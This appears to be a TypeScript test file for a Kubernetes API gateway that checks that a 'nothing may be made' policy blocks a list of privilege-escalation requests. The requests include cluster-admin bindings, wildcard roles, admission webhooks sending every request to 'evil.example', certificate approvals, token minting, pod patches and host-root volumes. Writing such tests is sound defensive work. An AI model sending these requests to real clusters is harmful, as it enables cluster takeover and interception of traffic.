/** K15: what is made, and what it would be: by which somebody comes by more than they have. */
import { podOf, podSpec } from '../../../support/kubernetes/gateway.ts';
import { kept } from '../attack.ts';
import type { Asked, KubernetesGroup, Place } from '../world.ts';
import { CONFINED } from './confined.ts';
import { NS, named, post } from './making.ts';

const RBAC = '/apis/rbac.authorization.k8s.io/v1';

const ADMIN = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' };
const ALL = { apiGroups: ['*'], resources: ['*'], verbs: ['*'] };
const HOOK = {
  name: 'a.example.com',
  clientConfig: { url: 'https://evil.example/' },
  rules: [{ apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*'] }],
  sideEffects: 'None',
  admissionReviewVersions: ['v1'],
};
const CRD = {
  ...named('vaults.example.com'),
  spec: {
    group: 'example.com',
    scope: 'Namespaced',
    names: { plural: 'vaults', kind: 'Vault' },
    versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object' } } }],
  },
};
const JOB = { ...named('job'), spec: { template: { spec: { ...podSpec(), restartPolicy: 'Never' } } } };
const CRON = { ...named('cron'), spec: { schedule: '* * * * *', jobTemplate: { spec: JOB.spec } } };
const APPROVED = { status: { conditions: [{ type: 'Approved', status: 'True' }] } };

/** Nobody is permitted to make anything. */
const MADE: readonly (readonly [what: string, asked: Asked, at?: Place])[] = [
  ['a pod', post(`${NS}/pods`, podOf('a')), 'both'],
  ['a pod on a node of its own choice', post(`${NS}/pods`, podOf('a', { nodeName: 'n1' })), 'both'],
  ['a job', post('/apis/batch/v1/namespaces/NS/jobs', JOB), 'both'],
  ['a job again and again', post('/apis/batch/v1beta1/namespaces/NS/cronjobs', CRON), 'both'],
  ['a role', post(`${RBAC}/namespaces/NS/roles`, { ...named('a'), rules: [ALL] }), 'both'],
  ['a role of the whole cluster', post(`${RBAC}/clusterroles`, { ...named('a-evil'), rules: [ALL] }), 'both'],
  [
    'a binding',
    post(`${RBAC}/namespaces/NS/rolebindings`, { ...named('a'), roleRef: ADMIN, subjects: [] }),
    'both',
  ],
  [
    'a binding in the whole cluster',
    post(`${RBAC}/clusterrolebindings`, { ...named('a-evil'), roleRef: ADMIN, subjects: [] }),
    'both',
  ],
  [
    'more in a role',
    {
      ...post(`${RBAC}/clusterroles/view`, { rules: [ALL] }),
      method: 'PATCH',
      type: 'application/merge-patch+json',
    },
    'both',
  ],
  ['the right to bind', { method: 'POST', target: `${RBAC}/clusterroles/cluster-admin/bind`, body: '{}' }],
  [
    'a hook',
    post('/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations', {
      ...named('a-evil'),
      webhooks: [HOOK],
    }),
    'both',
  ],
  [
    'a hook that changes',
    post('/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations', {
      ...named('a-evil'),
      webhooks: [HOOK],
    }),
    'both',
  ],
  ['a kind', post('/apis/apiextensions.k8s.io/v1/customresourcedefinitions', CRD), 'both'],
  ['a server of kinds', post('/apis/apiregistration.k8s.io/v1/apiservices', named('v1.evil.example'))],
  [
    'a request for a certificate',
    post('/apis/certificates.k8s.io/v1/certificatesigningrequests', named('a')),
  ],
  [
    'a certificate that is approved',
    {
      method: 'PUT',
      target: '/apis/certificates.k8s.io/v1/certificatesigningrequests/a/approval',
      body: JSON.stringify(APPROVED),
    },
  ],
  [
    'a certificate that is approved by a patch',
    {
      method: 'PATCH',
      target: '/apis/certificates.k8s.io/v1/certificatesigningrequests/a/approval',
      body: JSON.stringify(APPROVED),
      type: 'application/merge-patch+json',
    },
  ],
  ['a token', { method: 'POST', target: `${NS}/serviceaccounts/default/token`, body: '{"spec":{}}' }],
  [
    'a token that is a Secret',
    post(`${NS}/secrets`, {
      metadata: { name: 't', annotations: { 'kubernetes.io/service-account.name': 'default' } },
      type: 'kubernetes.io/service-account-token',
    }),
  ],
  [
    'a container in a pod that runs',
    {
      method: 'PATCH',
      target: `${NS}/pods/web/ephemeralcontainers`,
      body: '{"spec":{"ephemeralContainers":[{"name":"d","image":"a"}]}}',
      type: 'application/strategic-merge-patch+json',
    },
  ],
  [
    'another command in a pod that runs',
    {
      method: 'PATCH',
      target: `${NS}/pods/web`,
      body: '{"spec":{"containers":[{"name":"box","image":"evil"}]}}',
      type: 'application/strategic-merge-patch+json',
    },
  ],
  ['a node', post('/api/v1/nodes', named('n9')), 'both'],
  [
    'a volume of the host',
    post('/api/v1/persistentvolumes', {
      ...named('a-evil'),
      spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
    }),
    'both',
  ],
  [
    'an endpoint that leads elsewhere',
    post(`${NS}/endpoints`, { ...named('a'), subsets: [{ addresses: [{ ip: '10.1.2.3' }] }] }),
    'both',
  ],
  [
    'a service that leads elsewhere',
    post(`${NS}/services`, { ...named('a'), spec: { type: 'ExternalName', externalName: 'evil.example' } }),
    'both',
  ],
];

export const K15: readonly KubernetesGroup[] = [
  {
    id: 'K15',
    attacks: MADE.map(([what, asked, at]) => kept(`${what}, where nothing may be made`, asked, { at })),
  },
  CONFINED,
];
